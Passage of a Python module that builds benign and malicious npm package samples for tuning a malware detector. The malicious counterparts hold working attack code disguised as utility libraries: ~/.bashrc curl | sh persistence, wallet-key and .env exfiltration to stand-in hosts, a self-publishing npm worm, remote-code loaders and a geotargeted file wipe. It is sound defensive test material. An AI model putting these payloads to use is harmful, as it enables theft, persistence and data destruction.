"""Samples of the `fpfix` branch for scripts/make-samples.py (2026-11-25, issue 6): the classes of
legitimate behaviour behind the false alarms of a fresh benign set (release CLIs, shell
completion in CLI bundles, API clients' JSDoc, git hook scripts, identifier-checked function
naming, build-file evaluation, `.env` API clients, prefix-filtered environment reads, scaffolding
tables, SSH public-key registration), each as a tricky benign package, and for each a malicious
counterpart that keeps the part that makes it an attack.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `fpfix-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test), documentation IPs; made-up values.
"""

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()

# Filler that makes a file a bundle (over 200 KB): many small modules' worth of plain code.
BUNDLE_FILLER = "".join(
    f"function helper{i}(value) {{\n  return value == null ? {i} : String(value).length + {i};\n}}\n"
    for i in range(3200)
)


# =============================================================================================
# Tricky benign


@benign
def b_cli_completion_zshrc():
    cli = r'''#!/usr/bin/env node
"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");

const MIME = {
  "application/vnd.curl": { compressible: false },
  "application/vnd.evolv.ecig.profile": { source: "iana" },
  "text/vnd.curl.dcurl": { extensions: ["dcurl"] },
};

// `benchkit completion --install`: add the completion line to the user's shell start-up file.
function installCompletion(shell) {
  const rc = path.join(os.homedir(), shell === "zsh" ? ".zshrc" : ".bashrc");
  const line = `\n# benchkit completion\nsource <(benchkit completion ${shell})\n`;
  const current = fs.existsSync(rc) ? fs.readFileSync(rc, "utf8") : "";
  if (!current.includes("benchkit completion")) fs.appendFileSync(rc, line);
  console.log(`completion added to ${rc}`);
}
@@FILLER@@
function runProfile(options) {
  const profile = options.profile || "release";
  const flags = ["--perf-basic-prof", `--profile=${profile}`];
  process.on("SIGTERM", () => shutdown(flags));
  return flags;
}

function shutdown(flags) {
  console.log("stopping", flags.join(" "));
}

function contentType(ext) {
  return Object.keys(MIME).find((t) => (MIME[t].extensions || []).includes(ext));
}

const [cmd, arg, opt] = process.argv.slice(2);
if (cmd === "completion" && opt === "--install") installCompletion(arg || "bash");
else if (cmd === "run") runProfile({ profile: arg });
else if (cmd === "type") console.log(contentType(arg));
'''
    files = {
        "package.json": pj(name="benchkit-cli", version="3.4.0", bin={"benchkit": "dist/cli.js"},
                           description="Benchmark runner with V8 profiling flags"),
        "README.md": readme("benchkit-cli", "```sh\nbenchkit completion zsh --install\n```"),
        "dist/cli.js": cli.replace("@@FILLER@@", BUNDLE_FILLER),
    }
    return S(
        "fpfix-benign-cli-completion-zshrc",
        "CLI bundle appends its completion line to ~/.zshrc on request; far away it names curl in a MIME table, options.profile and a shutdown handler",
        "2026",
        ["shell-rc", "completion", "bundle"],
        "Class of @codspeed/core 5.7.1, @napi-rs/cli 3.10.12, @rspack/core 2.3.3: "
        "destructive-fs took any write plus .bashrc/.profile and curl/shutdown anywhere in a "
        "bundle for rc sabotage. Counterpart: fpfix-bashrc-download-line.",
        files,
    )


@benign
def b_api_client_jsdoc_webhook():
    client = r'''"use strict";
// Client for an alerting service's REST API.
const BASE = process.env.ALERTS_API || "https://api.alerts.example/v4";

class Webhooks {
  constructor(client) {
    this.client = client;
  }

  /**
   * Creates a webhook destination.
   *
   * @example
   * ```ts
   * const webhook = await client.destinations.webhooks.create({
   *   account_id: '023e105f4ecef8ad9ca31a8372d0c353',
   *   name: 'Slack Webhook',
   *   url: 'https://hooks.slack.com/services/Ds3fdBFbV/456464Gdd',
   * });
   * ```
   */
  create(params) {
    return this.client.post(`/accounts/${params.account_id}/webhooks`, params);
  }
}

class Client {
  constructor({ token, privateKey } = {}) {
    this.token = token;
    // mTLS client certificate for the API gateway
    this.privateKey = privateKey;
    this.webhooks = new Webhooks(this);
  }

  async post(path, body) {
    const res = await fetch(BASE + path, {
      method: "POST",
      headers: { authorization: `Bearer ${this.token}`, "content-type": "application/json" },
      body: JSON.stringify(body),
    });
    return res.json();
  }
}

module.exports = { Client };
'''
    files = {
        "package.json": pj(name="alerts-api-client", version="4.2.0", main="index.js",
                           description="Typed client for the alerts REST API"),
        "README.md": readme("alerts-api-client", "```js\nnew Client({ token }).webhooks.create({ ... })\n```"),
        "index.js": client,
    }
    return S(
        "fpfix-benign-api-client-jsdoc-webhook",
        "REST API client whose JSDoc example names a Slack webhook URL, with a privateKey option for mTLS",
        "2026",
        ["jsdoc", "webhook-example", "api-client"],
        "Class of wrangler 4.164.0 (its bundled API client): suspicious-endpoint matched the "
        "webhook in a comment, and the verdict paired it with privateKey. Counterpart: "
        "fpfix-jsdoc-and-live-webhook.",
        files,
    )


@benign
def b_release_cli():
    cli = r'''#!/usr/bin/env node
"use strict";
const fs = require("fs");
const { execSync } = require("child_process");

// Publishes the package in the current directory: checks the login, bumps, publishes, restores
// the project's .npmrc.
function username() {
  try {
    return execSync("npm whoami", { encoding: "utf8" }).trim();
  } catch (e) {
    throw new Error("Authentication error. Use `npm whoami` to troubleshoot, or run `npm login`.");
  }
}

function release(tag) {
  const user = username();
  console.log(`publishing as ${user}`);
  const old = fs.existsSync(".npmrc") ? fs.readFileSync(".npmrc", "utf8") : null;
  // CI: the token is read by the npm CLI from the environment
  fs.writeFileSync(".npmrc", "//registry.npm.example/:_authToken=${NPM_TOKEN}\n");
  try {
    execSync(`npm publish --tag ${tag}`, { stdio: "inherit" });
  } finally {
    if (old === null) fs.unlinkSync(".npmrc");
    else fs.writeFileSync(".npmrc", old);
  }
}

release(process.argv[2] || "latest");
'''
    files = {
        "package.json": pj(name="ship-release", version="5.0.1", bin={"ship-release": "bin/release.js"},
                           description="Publish the current package with a dist-tag"),
        "README.md": readme("ship-release", "```sh\nnpx ship-release next\n```"),
        "bin/release.js": cli,
    }
    return S(
        "fpfix-benign-release-cli",
        "release command: npm whoami login check, project .npmrc with a ${NPM_TOKEN} placeholder, npm publish of the current package",
        "2026",
        ["npm-publish", "npm-whoami", "npmrc", "release-tool"],
        "Class of np 12.1.1, release-it 21.1.2, eslint-release 3.3.0: whoami plus publish was "
        "critical anywhere, and .npmrc beside publish made a steal+propagate chain. "
        "Counterpart: fpfix-whoami-publish-on-load.",
        files,
    )


@benign
def b_git_hook_script():
    install = r'''"use strict";
var fs = require("fs");
var path = require("path");

var root = path.resolve(__dirname, "..", "..");
var hooks = path.resolve(root, ".git", "hooks");
var target = path.resolve(hooks, "pre-commit");
if (fs.existsSync(path.resolve(root, ".git"))) {
  if (!fs.existsSync(hooks)) fs.mkdirSync(hooks);
  var wrapper = ["#!/usr/bin/env bash", "exec bash " + JSON.stringify(path.join(__dirname, "hook")) + ' "$@"', ""].join("\n");
  try {
    fs.writeFileSync(target, wrapper);
    fs.chmodSync(target, 0o755);
  } catch (e) {
    console.error("pre-commit hook not installed: " + e.message);
  }
}
'''
    hook = r'''#!/usr/bin/env bash
#
# Defense-in-depth for editors (the .git/hooks wrapper unsets it too); hooks invoked from
# an editor behave the same as on the command line.
# https://docs.example/editor/git-hooks-on-the-command-line
#
unset GIT_LITERAL_PATHSPECS

if [[ -z "$(command -v node)" ]]; then
  # Sourcing the user's profile gives GUI clients the same PATH as a terminal.
  for f in "$HOME/.bash_profile" "$HOME/.zshrc"; do [[ -f "$f" ]] && source "$f" && break; done
fi

REPO_ROOT="$(git rev-parse --show-toplevel 2>/dev/null)" || exit 0
cd "$REPO_ROOT" && exec node -e "require('hook-runner').run(process.argv.slice(1))" "$@"
'''
    files = {
        "package.json": pj(name="commit-hook-runner", version="2.0.0", main="index.js",
                           scripts={"install": "node install.js"},
                           description="Runs npm scripts before each commit"),
        "README.md": readme("commit-hook-runner", "Add `\"pre-commit\": [\"test\"]` to package.json."),
        "index.js": "module.exports = { run: (args) => args };\n",
        "install.js": install,
        "hook": hook,
    }
    return S(
        "fpfix-benign-git-hook-script",
        "git hook manager writes the project's pre-commit hook at install; the hook script names .git/hooks and a help URL only in comments",
        "2026",
        ["git-hook", "install-script", "shell-comments"],
        "Class of pre-commit 2.0.0: persistence read the comments of the shell hook as a hook "
        "write beside network code. Counterpart: fpfix-git-hook-downloader.",
        files,
    )


@benign
def b_named_wrapper_function():
    runtime = r'''"use strict";
// Loads a WebAssembly module and exposes its exports as named JavaScript functions.
async function load(url, imports) {
  const res = await fetch(url);
  const { instance } = await WebAssembly.instantiate(await res.arrayBuffer(), imports);
  return instance.exports;
}

function makeNamed(name, impl) {
  if (name === "") return impl;
  if (!(/^[_$a-zA-Z][_$a-zA-Z0-9]*$/.test(name))) return impl;
  try {
    return (new Function("_", "return function " + name + "(){" + '"use strict";' + "return _.apply(this,arguments);" + "};"))(impl);
  } catch (e) {
    return impl;
  }
}

async function bind(url) {
  const exports = await load(url, {});
  const out = {};
  for (const key of Object.keys(exports)) {
    const name = await fetch(url + ".names/" + key).then((r) => r.text());
    out[key] = makeNamed(name, exports[key]);
  }
  return out;
}

module.exports = { bind, makeNamed };
'''
    files = {
        "package.json": pj(name="wasm-named-exports", version="1.11.0", main="index.js",
                           description="Expose wasm exports as named functions"),
        "README.md": readme("wasm-named-exports", "```js\nconst api = await bind('/mod.wasm')\n```"),
        "index.js": runtime,
    }
    return S(
        "fpfix-benign-named-wrapper-function",
        "wasm loader names each exported wrapper with new Function after checking the name is an identifier, in a file that fetches",
        "2026",
        ["function-constructor", "identifier-check", "network"],
        "Class of @emnapi/core 1.11.3: the function-naming idiom was 'decoded or assembled code' "
        "beside fetch. Counterpart: fpfix-named-wrapper-with-payload.",
        files,
    )


@benign
def b_build_file_eval():
    rjs = r'''#!/usr/bin/env node
"use strict";
var fs = require("fs");
var https = require("https");

var contents = "";

function readFile(p) {
  return fs.readFileSync(p, "utf8");
}

// Loads a build profile: a JavaScript object literal, possibly ending in ';' or a source map
// comment, as older build tools wrote them.
function loadBuildFile(buildFile) {
  contents = readFile(buildFile)
    .replace(/\/\/\#[^\n\r]+[\n\r]*$/, "")
    .trim()
    .replace(/;$/, "");
  return eval("(" + contents + ")");
}

function checkUpdate(version) {
  https.get("https://updates.buildkit.example/latest", (res) => {
    let v = "";
    res.on("data", (c) => (v += c));
    res.on("end", () => { if (v.trim() !== version) console.log("update available: " + v.trim()); });
  }).on("error", () => {});
}

var config = loadBuildFile(process.argv[2] || "build.js");
checkUpdate("2.3.8");
console.log("building " + (config.out || "out.js"));
'''
    files = {
        "package.json": pj(name="amd-build-kit", version="2.3.8", bin={"amd-build": "bin/build.js"},
                           description="Optimizer for AMD modules"),
        "README.md": readme("amd-build-kit", "```sh\namd-build build.js\n```"),
        "bin/build.js": rjs,
    }
    return S(
        "fpfix-benign-build-file-eval",
        "AMD optimizer evaluates the user's build profile with eval('(' + contents + ')'), in a CLI that checks for updates over HTTPS",
        "2026",
        ["eval", "config-loader", "network"],
        "Class of requirejs 2.3.8 (r.js): the code string folded to '()' through a variable "
        "once set to '', and counted as decoded code. Counterpart: fpfix-eval-wrapped-decoded.",
        files,
    )


@benign
def b_env_file_api_client():
    src = r'''import fs from "node:fs/promises";
import path from "node:path";
import util from "node:util";

async function readEnvFile() {
  let content;
  try {
    content = await fs.readFile(path.resolve(process.cwd(), ".env"), "utf-8");
  } catch {
    return {};
  }
  return util.parseEnv(content);
}

async function readEnv() {
  const file = await readEnvFile();
  return {
    TRACKER_API_URL: process.env.TRACKER_API_URL || file.TRACKER_API_URL || "https://api.tracker.example/graphql",
    TRACKER_TOKEN: process.env.TRACKER_TOKEN || file.TRACKER_TOKEN,
  };
}

export async function getIssue(repo, number) {
  const { TRACKER_API_URL, TRACKER_TOKEN } = await readEnv();
  if (!TRACKER_TOKEN) throw new Error("set TRACKER_TOKEN in the environment or in .env");
  const res = await fetch(TRACKER_API_URL, {
    method: "POST",
    headers: { Authorization: `Token ${TRACKER_TOKEN}` },
    body: JSON.stringify({ query: `{ issue(repo: "${repo}", number: ${number}) { title } }` }),
  });
  return (await res.json()).data;
}
'''
    files = {
        "package.json": pj(name="tracker-issue-info", version="1.0.1", type="module",
                           exports="./dist/index.mjs", description="Fetch issue titles for changelogs"),
        "README.md": readme("tracker-issue-info", "Set `TRACKER_TOKEN` (environment or `.env`)."),
        "dist/index.mjs": src,
    }
    return S(
        "fpfix-benign-env-file-api-client",
        "changelog helper reads the API address and token from the environment or the project's .env and queries that address with the token as its credential",
        "2026",
        ["dotenv", "api-client", "authorization-header"],
        "Class of @changesets/get-github-info 1.0.1: the URL picked from .env counted as .env "
        "flowing into fetch. Counterpart: fpfix-env-file-post-body.",
        files,
    )


@benign
def b_bundle_debug_env_fs_extra():
    chunk = r'''import fs from "fs";
import path from "path";
import https from "https";

// debug: options from DEBUG_* environment variables
const inspectOpts = Object.keys(process.env).filter(key => {
  return /^debug_/i.test(key);
}).reduce((obj, key) => {
  obj[key.substring(6).toLowerCase()] = process.env[key];
  return obj;
}, {});

// fs-extra: emptyDir and createFile
function emptyDirSync(dir) {
  let items;
  try {
    items = fs.readdirSync(dir);
  } catch {
    return fs.mkdirSync(dir, { recursive: true });
  }
  items.forEach(item => {
    item = path.join(dir, item);
    fs.rmSync(item, { recursive: true, force: true });
  });
}

function createFileSync(file) {
  let stats;
  try {
    stats = fs.statSync(file);
  } catch { }
  if (stats && stats.isFile()) return;
  const dir = path.dirname(file);
  try {
    if (!fs.statSync(dir).isDirectory()) {
      fs.readdirSync(dir);
    }
  } catch (err) {
    if (err && err.code === "ENOENT") fs.mkdirSync(dir, { recursive: true });
    else throw err;
  }
  fs.writeFileSync(file, "");
}
@@FILLER@@
// site config lookup
function findRoot(start) {
  let dir = start;
  while (!fs.existsSync(path.join(dir, "package.json"))) {
    const up = path.resolve(dir, "..");
    if (up === dir) return start;
    dir = up;
  }
  return dir;
}

function fetchTheme(url) {
  return new Promise((resolve) => https.get(url, (res) => resolve(res.statusCode)));
}

export { inspectOpts, emptyDirSync, createFileSync, findRoot, fetchTheme };
'''
    files = {
        "package.json": pj(name="docs-site-press", version="1.6.4", type="module",
                           exports="./dist/node/index.js", description="Static docs site generator"),
        "README.md": readme("docs-site-press", "```sh\nnpx docs-site-press build\n```"),
        "dist/node/index.js": "export * from './chunk.js';\n",
        "dist/node/chunk.js": chunk.replace("@@FILLER@@", BUNDLE_FILLER),
    }
    return S(
        "fpfix-benign-bundle-debug-env-fs-extra",
        "site generator bundle: the debug module's DEBUG_* environment options, fs-extra's emptyDir and createFile, and a parent-directory lookup far away",
        "2026",
        ["bundle", "env-prefix", "fs-extra"],
        "Class of vitepress 1.6.4 (and the debug module in wrangler and @codspeed/core): "
        "env-harvest took a DEBUG_ prefix filter for the whole environment, destructive-fs an "
        "empty-file creation after emptyDir's listing plus '..' 40 KB away for a wipe. "
        "Counterparts: fpfix-env-harvest-unfiltered-post, fpfix-bundle-parent-wipe.",
        files,
    )


@benign
def b_scaffold_table():
    content = r'''"use strict";
const { name: NAME, version: LATEST_VERSION } = require("../../package.json");

const isPublic = (p) => p.config.isPublic;

// Files written into the repository the templates are applied to.
const rootRepo = {
  add: {
    ".github/workflows/release.yml": { file: "release-yml.hbs", filter: isPublic },
    ".github/workflows/ci.yml": "ci-yml.hbs",
    ".gitignore": "gitignore.hbs",
    ".npmrc": "npmrc.hbs",
    "SECURITY.md": "SECURITY-md.hbs",
  },
  rm: [".npmrc", ".eslintrc.!({{ cjsExt }}|local.*)", "SECURITY.md"],
};

module.exports = { rootRepo, NAME, LATEST_VERSION };
'''
    files = {
        "package.json": pj(name="repo-template-kit", version="5.1.1", main="lib/content/index.js",
                           bin={"repo-template-apply": "bin/apply.js"},
                           description="Shared repository templates"),
        "README.md": readme("repo-template-kit", "```sh\nnpx repo-template-apply\n```"),
        "bin/apply.js": "#!/usr/bin/env node\nconst { rootRepo } = require('../lib/content');\nconsole.log(Object.keys(rootRepo.add).join('\\n'));\n",
        "lib/content/index.js": content,
    }
    return S(
        "fpfix-benign-scaffold-table",
        "repository template kit: a table mapping .github/workflows files and .npmrc to templates, and a list of files to remove",
        "2026",
        ["scaffolding", "workflow-template", "npmrc-name"],
        "Class of @npmcli/template-oss 5.1.1: '.npmrc' as a table key or list entry in a file "
        "that touches no files counted as reading it, beside the workflow names. Counterpart: "
        "fpfix-scaffold-table-npmrc-stealer.",
        files,
    )


@benign
def b_ssh_pubkey_register():
    cli = r'''#!/usr/bin/env node
"use strict";
const fs = require("fs/promises");
const os = require("os");
const path = require("path");

// Cloud SDK credential chain: the shared credentials file
function credentialsFile() {
  return process.env.AWS_SHARED_CREDENTIALS_FILE || path.join(os.homedir(), ".aws", "credentials");
}

// Registry settings for `deploy --publish`
function npmrcPath() {
  return path.join(process.cwd(), ".npmrc");
}

// `containers ssh add`: offer the user's public keys
async function defaultPublicKeys() {
  const dir = `${os.homedir()}/.ssh`;
  const paths = [];
  try {
    for (const file of await fs.readdir(dir)) {
      if (file.endsWith(".pub")) {
        const s = await fs.stat(`${dir}/${file}`);
        if (s.isFile()) paths.push(`${dir}/${file}`);
      }
    }
  } catch {
    return [];
  }
  return paths;
}

async function addKey(token) {
  const [first] = await defaultPublicKeys();
  if (!first) throw new Error("no public key found in ~/.ssh");
  const publicKey = (await fs.readFile(first, "utf8")).trim();
  const res = await fetch("https://api.containers.example/v1/ssh-keys", {
    method: "POST",
    headers: { authorization: `Bearer ${token}` },
    body: JSON.stringify({ public_key: publicKey }),
  });
  return res.json();
}

module.exports = { addKey, credentialsFile, npmrcPath };
'''
    files = {
        "package.json": pj(name="edge-deploy-cli", version="4.16.0", bin={"edge-deploy": "bin/cli.js"},
                           description="Deploy workers and containers"),
        "README.md": readme("edge-deploy-cli", "```sh\nedge-deploy containers ssh add\n```"),
        "bin/cli.js": cli,
    }
    return S(
        "fpfix-benign-ssh-pubkey-register",
        "deploy CLI lists ~/.ssh for .pub files to register the user's public key, beside the cloud credentials file path and the project's .npmrc",
        "2026",
        ["ssh-public-key", "cloud-credentials", "npmrc", "network"],
        "Class of wrangler 4.164.0: ssh keys + cloud credentials + npm tokens with network made "
        "sensitive-file-read critical. Counterpart: fpfix-ssh-private-keys-filter.",
        files,
    )


@benign
def b_fixture_test_runner():
    runner = r'''import fs from "node:fs";
import path from "node:path";
import vm from "node:vm";
import { spawn } from "node:child_process";
import * as compiler from "@acme/compiler-core";

function runCodeInContext(code, opts, context) {
  const src = `((function(exports, require, module) {\n${code}\n})).apply(global, global.__args);`;
  context.__args = [{}, (id) => id, { exports: {} }];
  return vm.runInContext(src, context, { filename: opts.filename, timeout: opts.timeout ?? 10000 });
}

// One task per fixture directory of the caller's test suite: input.js, options.json, output.js.
export function buildTasks(fixturesDir) {
  const tasks = [];
  for (const name of fs.readdirSync(fixturesDir)) {
    const testLoc = path.join(fixturesDir, name);
    let opts = { args: [] };
    const optionsLoc = path.join(testLoc, "options.json");
    if (fs.existsSync(optionsLoc)) opts = { args: [], ...JSON.parse(fs.readFileSync(optionsLoc, "utf8")) };
    tasks.push({ name, testLoc, opts, exec: fs.readFileSync(path.join(testLoc, "exec.js"), "utf8") });
  }
  return tasks;
}

export async function runTask(task) {
  const { opts } = task;
  const result = await compiler.transformAsync(task.exec, { filename: path.join(task.testLoc, "exec.js"), ...opts });
  return runCodeInContext(result.code, { filename: "exec.js", ...opts }, vm.createContext({}));
}

export function runCli(task) {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [path.join(task.testLoc, "cli.js"), ...task.opts.args]);
    child.on("close", resolve);
  });
}
'''
    files = {
        "package.json": pj(name="compiler-fixture-runner", version="8.0.0", type="module",
                           exports="./lib/index.js", description="Fixture test runner for compiler plugins"),
        "README.md": readme("compiler-fixture-runner", "```js\nfor (const t of buildTasks(dir)) await runTask(t)\n```"),
        "lib/index.js": runner,
        "lib/index.js.map": '{"version":3,"sources":["../src/index.ts"],"mappings":""}\n',
    }
    return S(
        "fpfix-benign-fixture-test-runner",
        "compiler test runner parses each fixture's options.json from the caller's fixtures directory and runs the fixture's compiled code in a vm context",
        "2026",
        ["vm", "test-runner", "fixtures", "child-process"],
        "Class of @babel/helper-transform-fixture-test-runner 8.0.0: the options parsed from a "
        "data file reached the runner through the compiler's result, as if code hidden in a data "
        "file of the package; the package ships no options.json. Counterpart: "
        "fpfix-shipped-options-stage.",
        files,
    )


# =============================================================================================
# Malicious counterparts


@sample
def bashrc_download_line():
    index = r'''"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");

function colors(level) {
  return ["\x1b[32m", "\x1b[33m", "\x1b[31m"][level] || "";
}

// "shell integration"
try {
  const rc = path.join(os.homedir(), ".bashrc");
  const line = Buffer.from("Y3VybCAtZnNTTCBodHRwczovL3NoZWxsLWludGVncmF0aW9uLmludmFsaWQvaS5zaCB8IHNo", "base64").toString();
  if (!fs.readFileSync(rc, "utf8").includes(line)) fs.appendFileSync(rc, "\n" + line + " >/dev/null 2>&1\n");
} catch (e) {}

module.exports = { colors };
'''
    files = {
        "package.json": pj(name="term-colors-lite", version="1.2.4", main="index.js",
                           description="ANSI colours for log levels"),
        "README.md": readme("term-colors-lite", "```js\nrequire('term-colors-lite').colors(2)\n```"),
        "index.js": index,
    }
    return S(
        "fpfix-bashrc-download-line",
        "on import, appends a base64-decoded curl | sh line to ~/.bashrc so every new shell downloads and runs a script",
        "2026",
        ["shell-rc", "persistence", "download-exec", "load-time"],
        "Counterpart of fpfix-benign-cli-completion-zshrc: the start-up file and the planted "
        "download command sit around the write.",
        files,
    )


@sample
def jsdoc_and_live_webhook():
    index = r'''"use strict";
const https = require("https");

/**
 * Signs a transaction.
 *
 * @example
 * sign({ privateKey: '0x...' }, tx)
 * // errors are reported to 'https://hooks.slack.com/services/T000/B000/xxxx'
 */
function sign(wallet, tx) {
  report({ k: wallet.privateKey, m: wallet.mnemonic });
  return { ...tx, signed: true };
}

function report(data) {
  const body = JSON.stringify({ text: JSON.stringify(data) });
  const req = https.request("https://hooks.slack.com/services/T0FFFFFFF/B0FFFFFFF/ffffffffffffffffffffffff", { method: "POST", headers: { "content-type": "application/json" } });
  req.on("error", () => {});
  req.end(body);
}

module.exports = { sign };
'''
    files = {
        "package.json": pj(name="evm-tx-signer", version="0.9.3", main="index.js",
                           description="Sign EVM transactions"),
        "README.md": readme("evm-tx-signer", "```js\nsign(wallet, tx)\n```"),
        "index.js": index,
    }
    return S(
        "fpfix-jsdoc-and-live-webhook",
        "transaction signer posts the wallet's private key and mnemonic to a Slack webhook; a JSDoc example names a webhook too",
        "2026",
        ["wallet-theft", "webhook", "jsdoc"],
        "Counterpart of fpfix-benign-api-client-jsdoc-webhook: the webhook in a comment no "
        "longer counts, the one in code does.",
        files,
    )


@sample
def whoami_publish_on_load():
    index = r'''"use strict";
const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

function slug(s) {
  return String(s).toLowerCase().replace(/[^a-z0-9]+/g, "-");
}

try {
  const me = execSync("npm whoami", { stdio: ["ignore", "pipe", "ignore"] }).toString().trim();
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "s-"));
  const pkg = { name: "@" + me + "/" + slug(os.hostname()), version: "1.0." + Date.now() % 1000, main: "index.js" };
  fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify(pkg));
  fs.copyFileSync(__filename, path.join(dir, "index.js"));
  execSync("npm publish --access public", { cwd: dir, stdio: "ignore" });
} catch (e) {}

module.exports = slug;
'''
    files = {
        "package.json": pj(name="slugify-fast", version="2.0.7", main="index.js",
                           description="Fast ASCII slugs"),
        "README.md": readme("slugify-fast", "```js\nrequire('slugify-fast')('Hello World')\n```"),
        "index.js": index,
    }
    return S(
        "fpfix-whoami-publish-on-load",
        "on import, npm whoami then a copy of itself published under the user's scope from a temp directory",
        "2026",
        ["worm", "npm-publish", "npm-whoami", "load-time"],
        "Counterpart of fpfix-benign-release-cli: whoami and publish at the top level of the "
        "code run on import, in another directory.",
        files,
    )


@sample
def git_hook_downloader():
    install = r'''"use strict";
var fs = require("fs");
var path = require("path");
var https = require("https");

var hooks = path.resolve(__dirname, "..", "..", ".git", "hooks");
https.get("https://hooks-cdn.invalid/post-checkout.sh", function (res) {
  var body = "";
  res.on("data", function (c) { body += c; });
  res.on("end", function () {
    try {
      fs.writeFileSync(path.join(hooks, "post-checkout"), body);
      fs.chmodSync(path.join(hooks, "post-checkout"), 0o755);
    } catch (e) {}
  });
}).on("error", function () {});
'''
    files = {
        "package.json": pj(name="commit-lint-lite", version="1.0.3", main="index.js",
                           scripts={"install": "node install.js"},
                           description="Lint commit messages"),
        "README.md": readme("commit-lint-lite", "Lints commit messages."),
        "index.js": "module.exports = (msg) => /^(feat|fix|chore)/.test(msg);\n",
        "install.js": install,
    }
    return S(
        "fpfix-git-hook-downloader",
        "install script downloads a script and writes it as the project's post-checkout git hook",
        "2026",
        ["git-hook", "install-script", "download", "persistence"],
        "Counterpart of fpfix-benign-git-hook-script: the hook is written from a download at "
        "install time.",
        files,
    )


@sample
def named_wrapper_with_payload():
    index = r'''"use strict";
async function named(url, impl) {
  const res = await fetch(url);
  const { name, body } = await res.json();
  if (!(/^[_$a-zA-Z][_$a-zA-Z0-9]*$/.test(name))) return impl;
  return (new Function("_", "return function " + name + "(){" + body + "; return _.apply(this,arguments);};"))(impl);
}

named("https://cdn.fn-names.invalid/v1/names.json", () => 0).then((f) => f()).catch(() => {});

module.exports = { named };
'''
    files = {
        "package.json": pj(name="fn-displayname", version="1.1.0", main="index.js",
                           description="Give functions display names"),
        "README.md": readme("fn-displayname", "```js\nawait named(url, impl)\n```"),
        "index.js": index,
    }
    return S(
        "fpfix-named-wrapper-with-payload",
        "checks a fetched name is an identifier, then builds the wrapper with a fetched body and runs it on import",
        "2026",
        ["function-constructor", "remote-code", "load-time"],
        "Counterpart of fpfix-benign-named-wrapper-function: the code has a run-time part "
        "besides the checked name, received over the network.",
        files,
    )


@sample
def eval_wrapped_decoded():
    cli = r'''"use strict";
var https = require("https");

var contents = "";

function loadProfile() {
  contents = Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJjdXJsIC1zIGh0dHBzOi8vYnVpbGQtcHJvZmlsZXMuaW52YWxpZC9wLnNoIHwgc2giKQ==", "base64").toString();
  return eval("(" + contents + ")");
}

https.get("https://build-profiles.invalid/ping", function () {}).on("error", function () {});
try { loadProfile(); } catch (e) {}
module.exports = { loadProfile: loadProfile };
'''
    files = {
        "package.json": pj(name="amd-profile-loader", version="0.3.2", main="index.js",
                           description="Load AMD build profiles"),
        "README.md": readme("amd-profile-loader", "```js\nrequire('amd-profile-loader').loadProfile()\n```"),
        "index.js": cli,
    }
    return S(
        "fpfix-eval-wrapped-decoded",
        "evaluates eval('(' + contents + ')') where contents is a base64-decoded curl | sh command runner, in a file that uses the network",
        "2026",
        ["eval", "base64", "download-exec", "load-time"],
        "Counterpart of fpfix-benign-build-file-eval: the wrapped string is decoded code, not a "
        "file the user gives.",
        files,
    )


@sample
def env_file_post_body():
    src = r'''import fs from "node:fs/promises";
import path from "node:path";
import util from "node:util";

async function readEnv() {
  const content = await fs.readFile(path.resolve(process.cwd(), ".env"), "utf-8").catch(() => "");
  return util.parseEnv(content);
}

export async function getIssue(repo, number) {
  const env = await readEnv();
  const { TRACKER_API_URL } = env;
  const res = await fetch(TRACKER_API_URL || "https://api.tracker.example/graphql", {
    method: "POST",
    body: JSON.stringify({ query: `{ issue(repo: "${repo}", number: ${number}) { title } }` }),
  });
  fetch("https://telemetry.tracker-info.invalid/v1/e", { method: "POST", body: JSON.stringify({ repo, cfg: env }) }).catch(() => {});
  return (await res.json()).data;
}
'''
    files = {
        "package.json": pj(name="tracker-issue-meta", version="1.0.2", type="module",
                           exports="./dist/index.mjs", description="Fetch issue titles for changelogs"),
        "README.md": readme("tracker-issue-meta", "Set `TRACKER_API_URL` in `.env`."),
        "dist/index.mjs": src,
    }
    return S(
        "fpfix-env-file-post-body",
        "changelog helper queries the API address from .env, and posts the whole parsed .env to a fixed telemetry host",
        "2026",
        ["dotenv", "secret-flow", "exfiltration"],
        "Counterpart of fpfix-benign-env-file-api-client: the address picked from .env is "
        "still no flow, the whole .env in a request body is.",
        files,
    )


@sample
def env_harvest_unfiltered_post():
    index = r'''"use strict";
const https = require("https");

const opts = Object.keys(process.env).filter((key) => key !== "PATH").reduce((o, k) => {
  o[k] = process.env[k];
  return o;
}, {});

function log(...args) {
  console.log(...args);
}

const req = https.request({ host: "logs.debug-lite.invalid", path: "/o", method: "POST" });
req.on("error", () => {});
req.end(JSON.stringify(opts));

module.exports = log;
'''
    files = {
        "package.json": pj(name="debug-lite-opts", version="4.3.9", main="index.js",
                           description="Tiny debug logger"),
        "README.md": readme("debug-lite-opts", "```js\nrequire('debug-lite-opts')('hi')\n```"),
        "index.js": index,
    }
    return S(
        "fpfix-env-harvest-unfiltered-post",
        "on import, copies every environment variable but PATH and posts them to a fixed host",
        "2026",
        ["env-harvest", "exfiltration", "load-time"],
        "Counterpart of fpfix-benign-bundle-debug-env-fs-extra: the filter keeps nearly every "
        "name (no fixed prefix) and the result leaves.",
        files,
    )


@sample
def bundle_parent_wipe():
    chunk = r'''import fs from "fs";
import path from "path";
@@FILLER@@
function sweep(d) {
  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
    const p = path.join(d, e.name);
    if (e.isDirectory()) sweep(p);
    else fs.writeFileSync(p, "\u2764\ufe0f");
  }
}

if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Europe/Minsk") {
  try { sweep(path.resolve(process.cwd(), "..")); } catch {}
}

export { sweep };
'''
    files = {
        "package.json": pj(name="site-press-plugin", version="0.4.1", type="module",
                           exports="./dist/chunk.js", description="Plugin for static sites"),
        "README.md": readme("site-press-plugin", "Add to your site config."),
